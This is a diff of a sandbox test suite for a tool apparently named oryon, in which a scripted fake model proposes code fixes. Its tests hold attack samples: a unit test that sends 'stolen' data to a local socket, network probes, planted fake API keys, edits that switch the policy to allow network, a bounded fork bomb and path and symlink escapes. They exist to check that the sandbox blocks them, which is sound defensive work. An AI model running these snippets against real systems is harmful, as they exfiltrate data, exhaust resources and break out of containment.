@@ -67,12 +67,24 @@ describe.skipIf(!bwrap.usable)(withBwrap('attacks through oryon sandbox'), () =>
     const repo = makeRepo({ 'a.txt': 'a\n' });
     const { port, connections } = await listener();
     const python = await runCli(
-      ['sandbox', '--', 'python3', '-c', `import socket\ntry:\n  socket.create_connection(("127.0.0.1", ${port}), timeout=3); print("CONNECTED")\nexcept OSError as e:\n  print("blocked:", e)`],
+      [
+        'sandbox',
+        '--',
+        'python3',
+        '-c',
+        `import socket\ntry:\n  socket.create_connection(("127.0.0.1", ${port}), timeout=3); print("CONNECTED")\nexcept OSError as e:\n  print("blocked:", e)`,
+      ],
       { cwd: repo },
     );
     expect(python.stdout).toMatch(/^blocked: .*(refused|unreachable)/i);
     const node = await runCli(
-      ['sandbox', '--', 'node', '-e', `require("net").connect(${port}, "127.0.0.1").on("connect", () => { console.log("CONNECTED"); process.exit(0) }).on("error", (e) => console.log("blocked:", e.code))`],
+      [
+        'sandbox',
+        '--',
+        'node',
+        '-e',
+        `require("net").connect(${port}, "127.0.0.1").on("connect", () => { console.log("CONNECTED"); process.exit(0) }).on("error", (e) => console.log("blocked:", e.code))`,
+      ],
       { cwd: repo },
     );
     expect(node.stdout).toMatch(/^blocked: (ECONNREFUSED|ENETUNREACH)/);
@@ -113,7 +125,13 @@ describe.skipIf(!bwrap.usable)(withBwrap('attacks through oryon sandbox'), () =>
 
   it('secret environment variables of the oryon process are not present inside', async () => {
     const repo = makeRepo({ 'a.txt': 'a\n' });
-    const env = isolatedEnv({ MY_API_TOKEN: 'tok-planted', AWS_SECRET_ACCESS_KEY: 'aws-planted', GITHUB_TOKEN: 'ghp_planted', OPENAI_API_KEY: 'sk-planted', DATABASE_PASSWORD: 'pw-planted' });
+    const env = isolatedEnv({
+      MY_API_TOKEN: 'tok-planted',
+      AWS_SECRET_ACCESS_KEY: 'aws-planted',
+      GITHUB_TOKEN: 'ghp_planted',
+      OPENAI_API_KEY: 'sk-planted',
+      DATABASE_PASSWORD: 'pw-planted',
+    });
     const result = await runCli(['sandbox', '--', 'env'], { cwd: repo, env });
     expect(result.code).toBe(0);
     expect(result.stdout).toContain('PATH=');
@@ -187,7 +205,10 @@ describe.skipIf(!bwrap.usable)(withBwrap('attacks through oryon sandbox'), () =>
 
   it('an edit to .oryon/policy.yaml from inside fails on a read-only mount, and the policy stays as it was', async () => {
     const repo = makeRepo({ 'a.txt': 'a\n', '.oryon/policy.yaml': 'network: false\n' });
-    const result = await runCli(['sandbox', '--', 'sh', '-c', 'echo "network: true" >> .oryon/policy.yaml; echo "network: true" > .oryon/config.yaml; echo done'], { cwd: repo });
+    const result = await runCli(
+      ['sandbox', '--', 'sh', '-c', 'echo "network: true" >> .oryon/policy.yaml; echo "network: true" > .oryon/config.yaml; echo done'],
+      { cwd: repo },
+    );
     expect(result.stdout).toBe('done\n');
     // Read-only mount; as root the command also runs as another uid, which may be refused first.
     expect(result.stderr.match(/Read-only file system|Permission denied/g)?.length).toBe(2);
@@ -222,7 +243,9 @@ describe.skipIf(!bwrap.usable)(withBwrap('attacks through oryon fix (scripted mo
     const task = datasetRepo('py-fib');
     const { port, connections } = await listener();
     const evilTest = `import socket\nimport unittest\n\nfrom fib import fib\n\n\nclass FibTest(unittest.TestCase):\n    def test_exfiltrate(self):\n        socket.create_connection(("127.0.0.1", ${port}), timeout=3).sendall(b"stolen")\n\n    def test_sequence(self):\n        self.assertEqual([fib(n) for n in range(10)], [0, 1, 1, 2, 3, 5, 8, 13, 21, 34])\n\n\nif __name__ == "__main__":\n    unittest.main()\n`;
-    const fake = await startFakeOllama({ replies: [{ content: planReply(['fib.py', 'test_fib.py']) }, { content: `${task.solution}\n${wholeFile('test_fib.py', evilTest)}` }] });
+    const fake = await startFakeOllama({
+      replies: [{ content: planReply(['fib.py', 'test_fib.py']) }, { content: `${task.solution}\n${wholeFile('test_fib.py', evilTest)}` }],
+    });
     fakes.push(fake);
     const env = fixEnv(fake.url);
     const result = await fix(task.root, ['--json', '--max-iterations', '1', task.issue], env);
@@ -308,7 +331,9 @@ describe.skipIf(!bwrap.usable)(withBwrap('attacks through oryon fix (scripted mo
     const blocks = run.steps.flatMap((step: { detail?: { blocks?: Array<{ path: string; status: string; message?: string }> } }) => step.detail?.blocks ?? []);
     const refused = blocks.filter((block: { path: string }) => block.path === '../escape.py');
     expect(refused.length).toBeGreaterThan(0);
-    expect(refused.every((block: { status: string; message?: string }) => block.status !== 'applied' && /leaves the repository/.test(block.message ?? ''))).toBe(true);
+    expect(
+      refused.every((block: { status: string; message?: string }) => block.status !== 'applied' && /leaves the repository/.test(block.message ?? '')),
+    ).toBe(true);
     // ...and the refusal is a journaled decision naming its rule.
     const decisions = run.decisions.filter((decision: { subject: string; allowed: boolean }) => decision.subject === '../escape.py' && !decision.allowed);
     expect(decisions.length).toBeGreaterThan(0);
@@ -321,7 +346,8 @@ function filesNamed(dir: string, name: string): string[] {
   return readdirSync(dir, { recursive: true, encoding: 'utf8' }).filter((entry) => path.basename(entry) === name);
 }
 
-const unittestFile = (body: string) => `import os\nimport sys\nimport time\nimport unittest\n\n\nclass AttackTest(unittest.TestCase):\n    def test_attack(self):\n${body.replace(/^/gm, '        ')}\n        self.fail("the attack ran to its end")\n\n\nif __name__ == "__main__":\n    unittest.main()\n`;
+const unittestFile = (body: string) =>
+  `import os\nimport sys\nimport time\nimport unittest\n\n\nclass AttackTest(unittest.TestCase):\n    def test_attack(self):\n${body.replace(/^/gm, '        ')}\n        self.fail("the attack ran to its end")\n\n\nif __name__ == "__main__":\n    unittest.main()\n`;
 
 describe.skipIf(!bwrap.usable)(withBwrap('attacks through oryon fix: limits, escapes and secrets'), () => {
   it('a fork bomb, an infinite loop and 200 MB of output in the tests are each stopped, with the rule journaled', async () => {
@@ -331,12 +357,16 @@ describe.skipIf(!bwrap.usable)(withBwrap('attacks through oryon fix: limits, esc
     git(task.root, 'add', '.oryon/policy.yaml');
     git(task.root, 'commit', '-q', '-m', 'tight limits');
     // Bounded (2000) so a broken limit cannot take the machine down; children sleep, not spin.
-    const bomb = 'n = 0\ntry:\n    while n < 2000:\n        if os.fork() == 0:\n            time.sleep(60)\n            os._exit(0)\n        n += 1\nexcept OSError:\n    print("fork failed after", n, flush=True)';
+    const bomb =
+      'n = 0\ntry:\n    while n < 2000:\n        if os.fork() == 0:\n            time.sleep(60)\n            os._exit(0)\n        n += 1\nexcept OSError:\n    print("fork failed after", n, flush=True)';
     const loop = 'while True:\n    pass';
     const flood = 'line = b"x" * 1023 + b"\\n"\nfor _ in range(200 * 1024):\n    sys.stdout.buffer.write(line)\nsys.stdout.flush()';
     const attacks = [bomb, loop, flood];
     const fake = await startFakeOllama({
-      respond: (_body, index) => ({ content: index === 0 ? planReply(['fib.py', 'test_fib.py']) : `${task.solution}\n${wholeFile('test_fib.py', unittestFile(attacks[Math.min(index - 1, 2)]!))}` }),
+      respond: (_body, index) => ({
+        content:
+          index === 0 ? planReply(['fib.py', 'test_fib.py']) : `${task.solution}\n${wholeFile('test_fib.py', unittestFile(attacks[Math.min(index - 1, 2)]!))}`,
+      }),
     });
     fakes.push(fake);
     const env = fixEnv(fake.url);
@@ -352,7 +382,11 @@ describe.skipIf(!bwrap.usable)(withBwrap('attacks through oryon fix: limits, esc
     // which sits TASK_SLACK above it (RLIMIT_NPROC of the user namespace or of sandbox.uid).
     const forkFailed = /fork failed after (\d+)/.exec(run.tests[0].output);
     const bombKill = limits.find((decision: { rule: string }) => decision.rule === 'limits.max_processes');
-    expect(bombKill !== undefined ? /\d+ processes( or threads)?; the limit is 32$/.test(bombKill.reason) : forkFailed !== null && Number(forkFailed[1]) <= 32 + TASK_SLACK).toBe(true);
+    expect(
+      bombKill !== undefined
+        ? /\d+ processes( or threads)?; the limit is 32$/.test(bombKill.reason)
+        : forkFailed !== null && Number(forkFailed[1]) <= 32 + TASK_SLACK,
+    ).toBe(true);
     expect(limits).toContainEqual(expect.objectContaining({ allowed: false, rule: 'limits.command_timeout_ms', reason: 'killed after 5000 ms' }));
     expect(limits).toContainEqual(expect.objectContaining({ allowed: false, rule: 'limits.max_output_bytes' }));
     expect(run.tests[1].output).toContain('[the test command was stopped after 5000 ms]');
@@ -388,7 +422,10 @@ describe.skipIf(!bwrap.usable)(withBwrap('attacks through oryon fix: limits, esc
     const throughLink = wholeFile('notes.txt', 'overwritten through the link\n');
     const fake = await startFakeOllama({
       respond: (_body, index) => ({
-        content: index === 0 ? planReply(['fib.py', 'test_fib.py', 'notes.txt']) : `${task.solution}\n${wholeFile('test_fib.py', unittestFile(probe))}${index === 1 ? `\n${throughLink}` : ''}`,
+        content:
+          index === 0
+            ? planReply(['fib.py', 'test_fib.py', 'notes.txt'])
+            : `${task.solution}\n${wholeFile('test_fib.py', unittestFile(probe))}${index === 1 ? `\n${throughLink}` : ''}`,
       }),
     });
     fakes.push(fake);
@@ -399,7 +436,11 @@ describe.skipIf(!bwrap.usable)(withBwrap('attacks through oryon fix: limits, esc
     const blocks = run.steps.flatMap((step: { detail?: { blocks?: Array<{ path: string; status: string; message?: string }> } }) => step.detail?.blocks ?? []);
     const refused = blocks.filter((block: { path: string }) => block.path === 'notes.txt');
     expect(refused.length).toBeGreaterThan(0);
-    expect(refused.every((block: { status: string; message?: string }) => block.status !== 'applied' && /outside the repository \(through a symlink\)/.test(block.message ?? ''))).toBe(true);
+    expect(
+      refused.every(
+        (block: { status: string; message?: string }) => block.status !== 'applied' && /outside the repository \(through a symlink\)/.test(block.message ?? ''),
+      ),
+    ).toBe(true);
     expect(readFileSync(path.join(env.HOME!, '.ssh', 'id_rsa'), 'utf8')).toContain('planted-key-material');
     // The probe ran in the sandbox and every attempt came back empty.
     const output: string = run.tests[0].output;
